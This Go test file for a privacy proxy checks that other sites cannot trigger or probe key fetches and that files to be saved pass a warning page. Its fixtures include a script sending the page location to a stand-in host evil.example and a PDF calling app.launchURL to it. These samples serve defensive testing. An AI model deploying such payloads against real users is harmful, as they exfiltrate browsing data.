package proxy

import (
	"bytes"
	"context"
	"html"
	"io"
	"net/http"
	"net/http/cookiejar"
	"regexp"
	"strings"
	"testing"
	"time"

	"lethe/crypto"
	"lethe/insert"
)

// Headers of the requests another site's page makes the browser send to the proxy.
var (
	crossImage    = []string{"Sec-Fetch-Site: cross-site", "Sec-Fetch-Mode: no-cors", "Sec-Fetch-Dest: image"}
	sameSiteImage = []string{"Sec-Fetch-Site: same-site", "Sec-Fetch-Mode: no-cors", "Sec-Fetch-Dest: image"}
	crossFetch    = []string{"Sec-Fetch-Site: cross-site", "Sec-Fetch-Mode: cors", "Sec-Fetch-Dest: empty", "Origin: http://evil.example"}
	crossFrame    = []string{"Sec-Fetch-Site: cross-site", "Sec-Fetch-Mode: navigate", "Sec-Fetch-Dest: iframe"}
	crossScript   = []string{"Sec-Fetch-Site: cross-site", "Sec-Fetch-Mode: no-cors", "Sec-Fetch-Dest: script"}
	crossTab      = []string{"Sec-Fetch-Site: cross-site", "Sec-Fetch-Mode: navigate", "Sec-Fetch-Dest: document", "Sec-Fetch-User: ?1"}
	sameSiteTab   = []string{"Sec-Fetch-Site: same-site", "Sec-Fetch-Mode: navigate", "Sec-Fetch-Dest: document"}
	// A browser without fetch metadata.
	oldImage      = []string{"Sec-Fetch-Site:", "Accept: image/avif,image/webp,*/*"}
	oldTab        = []string{"Sec-Fetch-Site:", "Accept: text/html,application/xhtml+xml"}
	oldCrossFetch = []string{"Sec-Fetch-Site:", "Origin: http://evil.example"}
	// The user, and the proxy's own pages.
	userTab     = []string{"Sec-Fetch-Site: none", "Sec-Fetch-Mode: navigate", "Sec-Fetch-Dest: document", "Sec-Fetch-User: ?1"}
	ownImage    = []string{"Sec-Fetch-Site: same-origin", "Sec-Fetch-Mode: no-cors", "Sec-Fetch-Dest: image"}
	openPattern = regexp.MustCompile(`href="([^"]+\?open=[^"]+)"`)
)

// Issue 16, finding 1: a page on another site cannot make the proxy fetch a key, nor learn
// from the answer whether the proxy holds it. Every request it can make the browser send is
// refused, or answered with the page that asks the user first, before any lookup: the
// answers for a key the proxy holds in memory and for one it has never seen are the same
// bytes, and while every request to the network hangs, they still come at once.
func TestOtherSitesCannotMakeTheProxyFetch(t *testing.T) {
	p := newTestProxy(t, Config{})
	img := pngImage(t)
	site := insertSite(t, p.st, crypto.InsertURI{Type: crypto.CHK}, map[string][]byte{
		"index.html": []byte(`<p>a page <img src="cat.png"></p>`),
		"cat.png":    img,
	})
	seen := site.WithPath("/cat.png") // opened by the user: in the proxy's memory from now on
	if resp, body := p.get(t, pathOf(seen), ownImage...); resp.StatusCode != http.StatusOK || body != string(img) {
		t.Fatalf("the user's own image: %d", resp.StatusCode)
	}
	never := insertFile(t, p.st, []byte("never opened"), insert.Config{Name: "n.txt"})

	// From here on the network never answers: a lookup would hang the request.
	p.setHook(func(ctx context.Context, rk crypto.RoutingKey) error {
		<-ctx.Done()
		return ctx.Err()
	})
	p.st.ResetCounts()
	quick := &http.Client{Jar: p.client.Jar, Timeout: 10 * time.Second,
		CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	slow := p.client
	p.client = quick
	fast := func(tb testing.TB, path string, headers []string) (*http.Response, string) {
		tb.Helper()
		return p.get(tb, path, headers...)
	}
	for _, tc := range []struct {
		name    string
		headers []string
		ask     bool // the page that asks first, else a refusal
	}{
		{"cross-site image", crossImage, false},
		{"same-site image", sameSiteImage, false},
		{"cross-site fetch", crossFetch, false},
		{"cross-site frame", crossFrame, false},
		{"cross-site script", crossScript, false},
		{"image without fetch metadata", oldImage, false},
		{"fetch without fetch metadata", oldCrossFetch, false},
		{"cross-site tab", crossTab, true},
		{"same-site tab", sameSiteTab, true},
		{"tab without fetch metadata", oldTab, true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var bodies []string
			for _, u := range []crypto.RequestURI{seen, never} {
				resp, body := fast(t, pathOf(u), tc.headers)
				switch {
				case tc.ask && (resp.StatusCode != http.StatusOK || !strings.Contains(body, "Open this key?")):
					t.Errorf("%v: %d, want the page that asks first\n%s", u, resp.StatusCode, body)
				case !tc.ask && (resp.StatusCode != http.StatusForbidden || body != refusedOther):
					t.Errorf("%v: %d, want the refusal\n%s", u, resp.StatusCode, body)
				}
				if strings.Contains(body, "PNG") || strings.Contains(body, "never opened") {
					t.Errorf("%v: content served", u)
				}
				bodies = append(bodies, strings.ReplaceAll(body, u.String(), "URI"))
			}
			if !tc.ask && bodies[0] != bodies[1] {
				t.Errorf("the answers differ for a key held and one never seen:\n%s\n%s", bodies[0], bodies[1])
			}
		})
	}
	if n := p.st.TotalGets(); n != 0 {
		t.Errorf("other sites' requests made %d block requests", n)
	}
	// The proxy's own pages refuse other sites' subresource requests too, but a link from
	// another site to the home page opens it.
	if resp, _ := fast(t, "/status", crossImage); resp.StatusCode != http.StatusForbidden {
		t.Errorf("another site's image of the status page: %d", resp.StatusCode)
	}
	if resp, _ := fast(t, "/", crossTab); resp.StatusCode != http.StatusOK {
		t.Errorf("a link from another site to the home page: %d", resp.StatusCode)
	}
	p.setHook(nil)
	p.client = slow

	// The user's own navigation, and the pages' own requests, work.
	if resp, body := p.get(t, pathOf(site.WithPath("/")), userTab...); resp.StatusCode != http.StatusOK || !strings.Contains(body, "a page") {
		t.Errorf("the user opening the site: %d\n%s", resp.StatusCode, body)
	}
	if resp, body := p.get(t, pathOf(never), ownImage...); resp.StatusCode != http.StatusOK || body != "never opened" {
		t.Errorf("the proxy's own page asking for a key: %d %q", resp.StatusCode, body)
	}
}

// The page that asks first lets the user open the key: its link carries a token bound to the
// browser's cookie and the path, which a browser without fetch metadata needs and which works
// nowhere else.
func TestAskFirstThenOpen(t *testing.T) {
	p := newTestProxy(t, Config{})
	uri := insertFile(t, p.st, []byte("<p>asked for</p>"), insert.Config{Name: "a.html"})
	other := insertFile(t, p.st, []byte("<p>another</p>"), insert.Config{Name: "b.html"})
	p.st.ResetCounts()
	_, body := p.get(t, pathOf(uri), crossTab...)
	m := openPattern.FindStringSubmatch(body)
	if m == nil {
		t.Fatalf("the page that asks first has no link to open the key:\n%s", body)
	}
	link := html.UnescapeString(m[1])
	if n := p.st.TotalGets(); n != 0 {
		t.Fatalf("asking first made %d block requests", n)
	}
	// A browser with fetch metadata: the link is followed from the proxy's own page.
	followed := []string{"Sec-Fetch-Site: same-origin", "Sec-Fetch-Mode: navigate", "Sec-Fetch-Dest: document"}
	if resp, body := p.get(t, link, followed...); resp.StatusCode != http.StatusOK || !strings.Contains(body, "asked for") {
		t.Errorf("following the link: %d\n%s", resp.StatusCode, body)
	}
	// A browser without: the token opens this key in this browser, and nothing else.
	if resp, body := p.get(t, link, oldTab...); resp.StatusCode != http.StatusOK || !strings.Contains(body, "asked for") {
		t.Errorf("with the token, without fetch metadata: %d\n%s", resp.StatusCode, body)
	}
	token := link[strings.Index(link, "?"):]
	if _, body := p.get(t, pathOf(other)+token, oldTab...); !strings.Contains(body, "Open this key?") {
		t.Errorf("the token of one key opened another")
	}
	jar, _ := cookiejar.New(nil)
	mine := p.client
	p.client = &http.Client{Jar: jar, Timeout: time.Minute}
	if _, body := p.get(t, link, oldTab...); !strings.Contains(body, "Open this key?") {
		t.Errorf("the token worked in a browser without the cookie it is bound to")
	}
	p.client = mine
	if _, body := p.get(t, link, crossTab...); !strings.Contains(body, "Open this key?") {
		t.Errorf("another site's navigation with a valid token was served")
	}
}

// Issue 16, finding 2: what the browser would save passes the warning page, and is saved
// under a name that says what the filter found it to be, whatever the site called it; pages
// lose their download attributes.
func TestSavedFilesPassTheWarning(t *testing.T) {
	p := newTestProxy(t, Config{})
	script := []byte("<script>fetch('http://evil.example/' + location)</script>" + strings.Repeat(" ", 200))
	pdf := []byte("%PDF-1.4 /JavaScript (app.launchURL('http://evil.example/'))")
	dir := insert.Dir{Entries: []insert.Entry{
		entry("readme.html", "audio/mpeg", script),
		entry("invoice.html", "application/pdf", pdf),
		entry("page.html", "", []byte(`<a download="invoice.html" href="invoice.html">invoice</a><area download="x.exe" href="readme.html">`)),
	}}
	site, err := insert.Directory(context.Background(), p.st, crypto.InsertURI{Type: crypto.CHK}, dir, insert.Config{})
	if err != nil {
		t.Fatal(err)
	}
	at := func(name string) string { return pathOf(site.WithPath("/" + name)) }

	for _, tc := range []struct{ name, saved string }{
		{"readme.html", "readme.mp3"},
		{"invoice.html", "invoice.pdf"},
	} {
		for _, tab := range [][]string{userTab, {navigate}} {
			resp, body := p.get(t, at(tc.name), tab...)
			if resp.StatusCode != http.StatusOK || !strings.Contains(body, "not shown in the browser") ||
				resp.Header.Get("Content-Disposition") != "" || strings.Contains(body, "evil.example") {
				t.Errorf("%s opened in a tab: %d, %q, want the warning page\n%s", tc.name, resp.StatusCode, resp.Header.Get("Content-Disposition"), body)
			}
			if !strings.Contains(body, tc.saved) {
				t.Errorf("the warning page does not say %s is saved as %s", tc.name, tc.saved)
			}
		}
		resp, _ := p.get(t, p.pastWarning(t, at(tc.name)), navigate)
		if cd := resp.Header.Get("Content-Disposition"); cd != "attachment; filename="+tc.saved {
			t.Errorf("%s after the warning: Content-Disposition %q, want the name %s", tc.name, cd, tc.saved)
		}
	}
	// A page's audio element plays it without saving, so without the warning.
	resp, body := p.get(t, at("readme.html"), "Sec-Fetch-Mode: no-cors", "Sec-Fetch-Dest: audio")
	if resp.StatusCode != http.StatusOK || body != string(script) || resp.Header.Get("Content-Type") != "audio/mpeg" {
		t.Errorf("an audio element's request: %d as %q", resp.StatusCode, resp.Header.Get("Content-Type"))
	}
	_, body = p.get(t, at("page.html"))
	if strings.Contains(body, "download=") || !strings.Contains(body, "invoice</a>") {
		t.Errorf("the page kept a download attribute:\n%s", body)
	}
}

func entry(name, mimeType string, data []byte) insert.Entry {
	return insert.Entry{Path: name, MIMEType: mimeType, Open: func() (io.ReadCloser, error) {
		return io.NopCloser(bytes.NewReader(data)), nil
	}}
}
